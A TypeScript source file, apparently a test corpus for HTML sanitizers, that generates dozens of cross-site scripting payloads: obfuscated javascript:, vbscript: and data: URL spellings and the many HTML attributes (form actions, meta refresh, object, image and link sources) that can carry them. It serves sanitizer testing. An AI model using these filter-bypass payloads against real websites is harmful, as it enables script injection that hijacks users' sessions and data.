import { family } from './payload.ts'

const link = (href: string, more = ''): string => `<p><a href="${href}"${more}>press</a></p>`
const html = (js: string): string => `data:text/html,<script>${js}</script>`

/** A link to a script, in many spellings. */
const spellings = family('link', {
  plain: ({ js }) => link(`javascript:${js}`),
  capitals: ({ js }) => link(`JaVaScRiPt:${js}`),
  'space-before': ({ js }) => link(` \n\t javascript:${js}`),
  'control-before': ({ js }) => link(`&#1;&#14;&#31;javascript:${js}`),
  'raw-control-before': ({ js }) => link(`\u0001\u0010javascript:${js}`),
  'tab-inside': ({ js }) => link(`java\tscript:${js}`),
  'tab-entity': ({ js }) => link(`java&Tab;script:${js}`),
  'tab-number': ({ js }) => link(`java&#x09;script:${js}`),
  'newline-inside': ({ js }) => link(`java\nscript\n:${js}`),
  'newline-entity': ({ js }) => link(`jav&NewLine;ascript:${js}`),
  'return-inside': ({ js }) => link(`javascript&#13;:${js}`),
  'colon-entity': ({ js }) => link(`javascript&colon;${js}`),
  'numbers-without-end': ({ js }) => link(`&#106&#97&#118&#97script:${js}`),
  'long-numbers': ({ js }) => link(`&#0000106;&#x000061;vascript:${js}`),
  'bare-attribute': ({ js }) => `<a href=javascript:${js}>press</a>`,
  'single-quotes': ({ js }) => `<a href='javascript:${js}'>press</a>`,
  'slash-before': ({ js }) => `<a/href="javascript:${js}">press</a>`,
  'comment-after-scheme': ({ js }) => link(`javascript://elsewhere.test/%0a${js}`),
  'escaped-statement': ({ js }) => link(`javascript:${encodeURIComponent(js)}`),
  'in-this-tab': ({ js }) => link(`javascript:${js}`, ' target=_self'),
  'in-the-top': ({ js }) => link(`javascript:${js}`, ' target=_top'),
  'in-a-new-tab': ({ js }) => link(`javascript:${js}`, ' target=_blank rel=opener'),
  'in-a-named-tab': ({ js }) => link(`javascript:${js}`, ' target=named'),
  'two-addresses': ({ js }) => `<a href="javascript:${js}" href="/x">press</a>`,
  'half-width': ({ js }) => link(`javascript\uff1a${js}`),
  'soft-hyphen': ({ js }) => link(`java\u00adscript:${js}`),
  'half-space': ({ js }) => link(`java\u200cscript:${js}`),
  'byte-order-mark': ({ js }) => link(`\ufeffjavascript:${js}`),
  'line-separator': ({ js }) => link(`\u2028javascript:${js}`),
  'right-to-left': ({ js }) => link(`\u202ejavascript:${js}`),
  'visual-basic': ({ js }) => link(`vbscript:${js}`),
  'view-source': ({ js }) => link(`view-source:javascript:${js}`),
  feed: ({ js }) => link(`feed:javascript:${js}`),
  'data-html': ({ js }) => link(html(js)),
  'data-html-new-tab': ({ js }) => link(html(js), ' target=_blank'),
  'data-base64': ({ js }) => link(`data:text/html;base64,${btoa(`<script>${js}</script>`)}`),
  'data-xhtml': ({ js }) =>
    link(`data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>${js}</script></html>`),
  'data-svg': ({ js }) => link(`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`),
  'data-capitals': ({ js }) => link(`DaTa:TEXT/HTML,<script>${js}</script>`),
  blob: ({ js }) => link(`blob:null/${js}`),
  filesystem: () => link('filesystem:http://elsewhere.test/temporary/x'),
  'about-blank': ({ js }) => link(`about:blank#${js}`),
})

/** The address of a script in each attribute that takes an address. */
const places = family('address', {
  area: ({ js }) => `<img usemap="#m" src="x:"><map name=m><area shape=default href="javascript:${js}"></map>`,
  'form-action': ({ js }) => `<form action="javascript:${js}"><button>go</button></form>`,
  'button-action': ({ js }) => `<form><button formaction="javascript:${js}">go</button></form>`,
  'input-action': ({ js }) => `<form><input type=submit formaction="javascript:${js}"></form>`,
  'image-button-action': ({ js }) => `<form><input type=image alt=go formaction="javascript:${js}"></form>`,
  'distant-button': ({ js }) => `<form id=far></form><button form=far formaction="javascript:${js}">go</button>`,
  'image-source': ({ js }) => `<img src="javascript:${js}"><img lowsrc="javascript:${js}" dynsrc="javascript:${js}">`,
  'table-background': ({ js }) =>
    `<table background="javascript:${js}"><tr><td background="javascript:${js}">x</table>`,
  'embed-source': ({ js }) => `<embed src="javascript:${js}">`,
  'object-data': ({ js }) => `<object data="javascript:${js}"></object>`,
  'object-code': ({ js }) =>
    `<object classid="java:x" codebase="javascript:${js}"></object><applet code="${js}"></applet>`,
  'link-sheet': ({ js }) => `<link rel=stylesheet href="javascript:${js}">`,
  'link-import': ({ js }) => `<link rel=import href="data:text/html,<script>${js}</script>">`,
  base: ({ js }) => `<base href="javascript:/x/"><a href="#${js}">press</a>`,
  refresh: ({ js }) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  'refresh-data': ({ js }) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${js}</script>">`,
  citation: ({ js }) => `<blockquote cite="javascript:${js}"><q cite="javascript:${js}">q</q></blockquote>`,
  'long-description': ({ js }) => `<img longdesc="javascript:${js}" src="x:" alt="">`,
  ping: ({ url }) => `<a href="#x" ping="${url}">press</a>`,
  'xlink-on-html': ({ js }) => `<a xlink:href="javascript:${js}">press</a>`,
  'keyed-link': ({ js }) => `<a accesskey=x tabindex=1 href="javascript:${js}">press</a>`,
})

export const ADDRESSES = [...spellings, ...places]
